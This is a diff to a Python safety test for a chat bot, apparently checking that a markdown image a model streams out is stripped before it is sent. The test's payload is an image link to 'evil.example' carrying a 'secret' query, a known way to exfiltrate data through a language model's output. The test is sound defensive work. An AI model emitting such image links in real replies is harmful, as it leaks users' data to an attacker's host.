@@ -717,13 +717,13 @@ class TestSafety:
         self, bot: Bot, connector: Connector, model: ModelServer
     ):
         image = "![a chart](https://evil.example/?q=secret)"
-        model.speaks("Look: ", 1.5, *[piece for character in image for piece in (character, 0.3)], " Nice?")
+        model.speaks("Look: ", 1.5, *[piece for character in image for piece in (character, 0.3)], " Nice?", 1.5)
 
         await bot.personal().say("Hi")
 
         assert len(connector.steps) > 1
         assert not any("evil.example" in sent.text or "![" in sent.text for sent in connector.sent)
-        assert "a chart" in connector.messages[-1].text
+        assert line("picture-removed", description="a chart") in connector.messages[-1].text
 
     async def test_an_image_of_an_allowed_host_is_shown(
         self, environment: dict[str, str], connector: Connector, model: ModelServer
